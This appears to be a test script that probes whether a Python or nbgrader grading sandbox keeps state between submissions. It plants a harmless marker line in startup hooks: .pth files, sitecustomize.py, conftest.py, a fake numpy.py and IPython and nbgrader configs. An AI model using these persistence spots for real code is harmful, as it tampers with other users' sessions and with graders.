"""Leaves files that Python and IPython run when they start, for the submissions after it."""

import os
import site
import sys

CODE = "open('/tmp/hostile-left-startup', 'w').close()\n"
PLACES = [
    os.path.expanduser("~/.ipython/profile_default/startup/hostile-left.py"),
    os.path.expanduser("~/.ipython/profile_default/ipython_config.py"),
    os.path.expanduser("~/.jupyter/nbgrader_config.py"),
    os.path.join(site.getusersitepackages(), "hostile-left.pth"),
    "sitecustomize.py",
    "conftest.py",
    "numpy.py",
    "../nbgrader_config.py",
    *(os.path.join(place, "hostile-left.pth") for place in sys.path if place.endswith("packages")),
]
for place in PLACES:
    try:
        os.makedirs(os.path.dirname(place) or ".", exist_ok=True)
        with open(place, "w") as file:
            file.write(CODE)
        print("written", place)
    except OSError as error:
        print(error)
